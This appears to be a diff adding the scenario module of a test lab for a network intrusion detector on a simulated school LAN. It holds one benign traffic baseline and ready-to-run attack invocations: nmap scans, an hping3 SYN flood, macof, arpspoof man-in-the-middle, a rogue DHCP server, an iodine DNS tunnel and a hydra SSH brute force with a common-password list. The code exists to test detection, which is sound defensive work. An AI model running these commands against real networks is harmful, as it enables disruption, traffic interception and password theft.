@@ -1,0 +1,453 @@
+"""The lab's scenarios: a benign school day and one real attack tool each.
+
+Every scenario is bounded by a packet count, by ``timeout``, or both, and runs only
+inside the lab's namespaces. Each returns what it did (the exact command) and which
+detectors it must raise. The live tests and ``scripts/record-lab-captures`` share them;
+``small=True`` shrinks the floods so that a recording stays a few hundred kilobytes.
+"""
+
+from __future__ import annotations
+
+import signal
+import time
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+from tests.lab.lan import IF, LAN, TUNNEL_DOMAIN, Host, SchoolLan
+
+PASSWORDS = [
+    "123456",
+    "password",
+    "123456789",
+    "12345678",
+    "12345",
+    "qwerty",
+    "abc123",
+    "football",
+    "1234567",
+    "monkey",
+    "111111",
+    "letmein",
+    "1234",
+    "1234567890",
+    "dragon",
+    "baseball",
+    "sunshine",
+    "iloveyou",
+    "trustno1",
+    "princess",
+    "admin",
+    "welcome",
+    "666666",
+    "password1",
+    "123123",
+    "654321",
+    "superman",
+    "qazwsx",
+    "michael",
+    "Password1",
+    "school2024",
+    "teacher",
+    "summer2024",
+    "changeme",
+    "P@ssw0rd",
+    "classroom",
+]
+SSH_OPTS = [
+    "-o",
+    "StrictHostKeyChecking=no",
+    "-o",
+    "UserKnownHostsFile=/dev/null",
+    "-o",
+    "BatchMode=yes",
+    "-o",
+    "ConnectTimeout=5",
+    "-o",
+    "LogLevel=ERROR",
+]
+
+
+@dataclass
+class Outcome:
+    scenario: str
+    expected: tuple[str, ...]
+    command: str
+    description: str
+    attacker: Host | None
+    tool: str
+    fast: bool = True  # detected within seconds of the start
+    notes: dict[str, object] = field(default_factory=dict)
+
+
+@dataclass(frozen=True)
+class Scenario:
+    name: str
+    tools: tuple[str, ...]
+    run: Callable[[SchoolLan, bool], Outcome]
+
+
+def _bounded(lan: SchoolLan, ns: str, seconds: float, *cmd: str) -> str:
+    """Run a tool under timeout(1) (SIGINT first, so it cleans up), return its output."""
+    lan.attack_started = time.monotonic()
+    proc = lan.run(ns, "timeout", "-s", "INT", "-k", "3", str(seconds), *cmd, timeout=seconds + 10)
+    return proc.stdout + proc.stderr
+
+
+# --------------------------------------------------------------------- benign
+def baseline(lan: SchoolLan, small: bool = False) -> Outcome:
+    srv, stu = lan.srv, lan.students
+    # DHCP: each student renews its reserved address
+    for s in stu:
+        lan.dhcp(s)
+    # DNS: names of the intranet and one web site, plus a typo (NXDOMAIN)
+    names = ["www.school.lan", "srv.school.lan", "news.example.com", "newss.example.com"]
+    for s in stu:
+        for n in names:
+            lan.run(s.ns, "busybox", "nslookup", n, srv.ip, timeout=10)
+    # HTTP: intranet pages and the internet host
+    for s in stu:
+        for page in ("", "homework1.html", "homework2.html", "homework3.html"):
+            lan.run(
+                s.ns,
+                "curl",
+                "-4",
+                "-s",
+                "-m",
+                "5",
+                "-o",
+                "/dev/null",
+                f"http://www.school.lan/{page}",
+                timeout=10,
+            )
+        lan.run(
+            s.ns,
+            "curl",
+            "-4",
+            "-s",
+            "-m",
+            "5",
+            "-o",
+            "/dev/null",
+            "http://news.example.com/",
+            timeout=10,
+        )
+    lan.run(
+        stu[0].ns,
+        "curl",
+        "-4",
+        "-s",
+        "-m",
+        "10",
+        "-o",
+        "/dev/null",
+        "http://news.example.com/chunk.bin",
+        timeout=15,
+    )
+    # an admin's three SSH sessions from student laptop 1 (key login as root)
+    key = str(lan.work / "sshd" / "admin")
+    for cmd in ("uptime", "df -h /", "systemctl --no-pager is-system-running || true"):
+        lan.run(stu[0].ns, "ssh", *SSH_OPTS, "-i", key, f"root@{srv.ip}", cmd, timeout=20)
+        time.sleep(1)
+    # pings to the gateway
+    for s in stu:
+        lan.run(s.ns, "busybox", "ping", "-c", "2", "-i", "0.3", lan.gw.ip, timeout=10)
+    return Outcome(
+        "baseline",
+        (),
+        "udhcpc renew x3; busybox nslookup (4 names incl. 1 NXDOMAIN) x3; curl intranet and "
+        "internet pages x3 + 64 KiB download; ssh -i key root@server x3; busybox ping gateway",
+        "A normal school LAN: DHCP renewals, DNS lookups against the school resolver, web "
+        "browsing, three SSH sessions of an admin, pings. No detector may fire.",
+        None,
+        "busybox udhcpc/nslookup/ping, curl, openssh-client",
+    )
+
+
+# --------------------------------------------------------------------- scans
+def _nmap(
+    lan: SchoolLan,
+    name: str,
+    args: list[str],
+    expected: str,
+    descr: str,
+    seconds: float = 60,
+    fast: bool = True,
+) -> Outcome:
+    a = lan.attacker
+    out = _bounded(lan, a.ns, seconds, "nmap", *args)
+    return Outcome(
+        name,
+        (expected,),
+        "nmap " + " ".join(args),
+        descr,
+        a,
+        "nmap",
+        fast,
+        {"output_tail": out[-300:]},
+    )
+
+
+def syn_scan(lan: SchoolLan, small: bool = False) -> Outcome:
+    return _nmap(
+        lan,
+        "syn_scan",
+        ["-sS", "-Pn", "-n", "-T4", "-p", "1-1000", lan.srv.ip],
+        "port_scan",
+        "nmap SYN scan of 1000 ports on the school server",
+    )
+
+
+def connect_scan(lan: SchoolLan, small: bool = False) -> Outcome:
+    return _nmap(
+        lan,
+        "connect_scan",
+        ["-sT", "-Pn", "-n", "-T4", "-p", "1-1000", lan.srv.ip],
+        "port_scan",
+        "nmap connect() scan (full handshakes on open ports)",
+    )
+
+
+def slow_scan(lan: SchoolLan, small: bool = False) -> Outcome:
+    return _nmap(
+        lan,
+        "slow_scan",
+        ["-sS", "-Pn", "-n", "--scan-delay", "2s", "-p", "20-30", lan.srv.ip],
+        "port_scan",
+        "slow nmap SYN scan: 11 ports, one probe every 2 s (below the fast thresholds)",
+        seconds=45,
+        fast=False,
+    )
+
+
+def ping_sweep(lan: SchoolLan, small: bool = False) -> Outcome:
+    return _nmap(
+        lan,
+        "ping_sweep",
+        ["-sn", "-n", LAN],
+        "host_sweep",
+        "nmap host discovery of the /24 (ARP requests on the local segment)",
+    )
+
+
+def icmp_sweep(lan: SchoolLan, small: bool = False) -> Outcome:
+    return _nmap(
+        lan,
+        "icmp_sweep",
+        ["-sn", "-n", "-T4", "-PE", "--send-ip", LAN],
+        "host_sweep",
+        "nmap ICMP echo sweep through the IP stack (--send-ip): the kernel ARPs for "
+        "every address, echo requests go to the live ones",
+    )
+
+
+# --------------------------------------------------------------------- floods
+def syn_flood(lan: SchoolLan, small: bool = False) -> Outcome:
+    a = lan.attacker
+    count, gap = ("3000", "u1000") if small else ("20000", "u100")
+    args = ["-S", "-p", "80", "-c", count, "-i", gap, lan.srv.ip]
+    out = _bounded(lan, a.ns, 30, "hping3", *args)
+    return Outcome(
+        "syn_flood",
+        ("syn_flood",),
+        "hping3 " + " ".join(args),
+        f"hping3 SYN flood, {count} SYNs to the server's port 80",
+        a,
+        "hping3",
+        notes={"output_tail": out[-300:]},
+    )
+
+
+def mac_flood(lan: SchoolLan, small: bool = False) -> Outcome:
+    a = lan.attacker
+    args = ["-i", IF, "-n", "3000"] if small else ["-i", IF]
+    _bounded(lan, a.ns, 5, "macof", *args)
+    return Outcome(
+        "mac_flood",
+        ("mac_flood",),
+        "timeout 5 macof " + " ".join(args),
+        "macof: frames with random source MACs (and random IPs)",
+        a,
+        "macof (dsniff)",
+        notes={"no_single_source": True},
+    )
+
+
+# --------------------------------------------------------------------- layer 2
+def arp_spoof(lan: SchoolLan, small: bool = False) -> Outcome:
+    a, victim = lan.attacker, lan.students[0]
+    seconds = 12
+    traffic = lan.start(
+        victim.ns, "victim-ping", "busybox", "ping", "-c", str(seconds + 6), "-i", "1", lan.gw.ip
+    )
+    lan.run(a.ns, "sysctl", "-qw", "net.ipv4.ip_forward=1")
+    try:
+        args = ["-i", IF, "-t", victim.ip, "-r", lan.gw.ip]
+        _bounded(lan, a.ns, seconds, "arpspoof", *args)
+    finally:
+        lan.run(a.ns, "sysctl", "-qw", "net.ipv4.ip_forward=0")
+        lan.stop(traffic, signal.SIGINT)
+    return Outcome(
+        "arp_spoof",
+        ("arp_spoof",),
+        f"timeout -s INT {seconds} arpspoof " + " ".join(args) + " (ip_forward=1)",
+        "arpspoof MITM between student 1 and the gateway: forged ARP replies both "
+        "ways every 2 s, then the re-ARP on exit",
+        a,
+        "arpspoof (dsniff)",
+    )
+
+
+def gratuitous_arp(lan: SchoolLan, small: bool = False) -> Outcome:
+    a = lan.attacker
+    args = ["-U", "-P", "-S", lan.gw.ip, "-c", "3", "-i", IF, lan.gw.ip]
+    _bounded(lan, a.ns, 10, "arping", *args)
+    return Outcome(
+        "gratuitous_arp",
+        ("arp_spoof",),
+        "arping " + " ".join(args),
+        "unsolicited (gratuitous) ARP replies claiming the gateway's address "
+        "with the attacker's MAC",
+        a,
+        "arping",
+    )
+
+
+def rogue_dhcp(lan: SchoolLan, small: bool = False) -> Outcome:
+    a = lan.attacker
+    args = [
+        "-k",
+        "--port=0",
+        f"--interface={IF}",
+        "--bind-interfaces",
+        "--no-hosts",
+        "--no-resolv",
+        "--dhcp-range=10.77.0.200,10.77.0.220,255.255.255.0,5m",
+        f"--dhcp-option=3,{a.ip}",
+        f"--dhcp-option=6,{a.ip}",
+        "--dhcp-authoritative",
+        "--no-ping",
+        "--user=root",
+        f"--dhcp-leasefile={lan.work / 'rogue.leases'}",
+        f"--pid-file={lan.work / 'rogue.pid'}",
+    ]
+    lan.attack_started = time.monotonic()
+    rogue = lan.start(a.ns, "rogue-dnsmasq", "dnsmasq", *args)
+    leases: list[str] = []
+    try:
+        time.sleep(1)
+        leases += [lan.dhcp(s).strip() for s in lan.students[1:]]
+    finally:
+        lan.stop(rogue)
+    for s in lan.students[1:]:  # back to the school's server (benign)
+        lan.dhcp(s)
+    return Outcome(
+        "rogue_dhcp",
+        ("rogue_dhcp",),
+        "dnsmasq " + " ".join(x for x in args if "file" not in x),
+        "a second DHCP server on the attacker (router and DNS = attacker); "
+        "students 2 and 3 rejoin with busybox udhcpc, then renew from the school "
+        "server",
+        a,
+        "dnsmasq",
+        notes={"udhcpc": leases},
+    )
+
+
+# --------------------------------------------------------------------- DNS tunnel
+def dns_tunnel(lan: SchoolLan, small: bool = False) -> Outcome:
+    """iodine through the school resolver, which forwards tunnel.test to the internet host."""
+    a, wan = lan.attacker, lan.wan
+    server = lan.start(
+        wan.ns,
+        "iodined",
+        "iodined",
+        "-f",
+        "-c",
+        "-P",
+        "labsecret",
+        "-l",
+        wan.ip,
+        "-p",
+        "53",
+        "172.31.77.1/27",
+        TUNNEL_DOMAIN,
+    )
+    args = ["-f", "-r", "-P", "labsecret", lan.srv.ip, TUNNEL_DOMAIN]
+    client = None
+    up = False
+    try:
+        time.sleep(1)
+        lan.attack_started = time.monotonic()
+        client = lan.start(a.ns, "iodine", "timeout", "-s", "INT", "30", "iodine", *args)
+        deadline = time.monotonic() + 20
+        while time.monotonic() < deadline and client.poll() is None:
+            if "172.31.77." in lan.sh("ip", "-n", a.ns, "-4", "-o", "addr", check=False):
+                up = True
+                break
+            time.sleep(0.3)
+        if up:  # push a little data through the tunnel
+            lan.run(a.ns, "busybox", "ping", "-c", "5", "-i", "0.3", "172.31.77.1", timeout=15)
+            lan.run(
+                a.ns,
+                "curl",
+                "-s",
+                "-m",
+                "8",
+                "-o",
+                "/dev/null",
+                "http://172.31.77.1/chunk.bin",
+                timeout=15,
+            )
+    finally:
+        if client is not None:
+            lan.stop(client, signal.SIGINT)
+        lan.stop(server)
+    return Outcome(
+        "dns_tunnel",
+        ("dns_tunnel",),
+        "iodine " + " ".join(args),
+        "iodine DNS tunnel through the school resolver (dnsmasq forwards "
+        f"{TUNNEL_DOMAIN} to iodined on the internet host); ping and a 64 KiB "
+        "download through the tunnel",
+        a,
+        "iodine",
+        notes={"tunnel_up": up, "iodine_log_tail": lan.log("iodine")[-400:]},
+    )
+
+
+# --------------------------------------------------------------------- brute force
+def brute_force(lan: SchoolLan, small: bool = False) -> Outcome:
+    a = lan.attacker
+    wordlist = lan.work / "passwords.txt"
+    wordlist.write_text("\n".join(PASSWORDS) + "\n")
+    args = ["-I", "-t", "4", "-l", "admin", "-P", str(wordlist), f"ssh://{lan.srv.ip}"]
+    out = _bounded(lan, a.ns, 90, "hydra", *args)
+    return Outcome(
+        "brute_force",
+        ("brute_force",),
+        "hydra " + " ".join(args).replace(str(wordlist), "passwords.txt"),
+        f"hydra SSH password guessing, {len(PASSWORDS)} passwords, 4 tasks",
+        a,
+        "hydra",
+        notes={"output_tail": out[-300:]},
+    )
+
+
+SCENARIOS = {
+    s.name: s
+    for s in [
+        Scenario("baseline", ("busybox", "curl", "ssh"), baseline),
+        Scenario("syn_scan", ("nmap",), syn_scan),
+        Scenario("ping_sweep", ("nmap",), ping_sweep),
+        Scenario("syn_flood", ("hping3",), syn_flood),
+        Scenario("arp_spoof", ("arpspoof",), arp_spoof),
+        Scenario("rogue_dhcp", ("dnsmasq", "busybox"), rogue_dhcp),
+        Scenario("dns_tunnel", ("iodine", "iodined"), dns_tunnel),
+        Scenario("brute_force", ("hydra",), brute_force),
+        Scenario("mac_flood", ("macof",), mac_flood),
+        Scenario("connect_scan", ("nmap",), connect_scan),
+        Scenario("slow_scan", ("nmap",), slow_scan),
+        Scenario("icmp_sweep", ("nmap",), icmp_sweep),
+        Scenario("gratuitous_arp", ("arping",), gratuitous_arp),
+    ]
+}
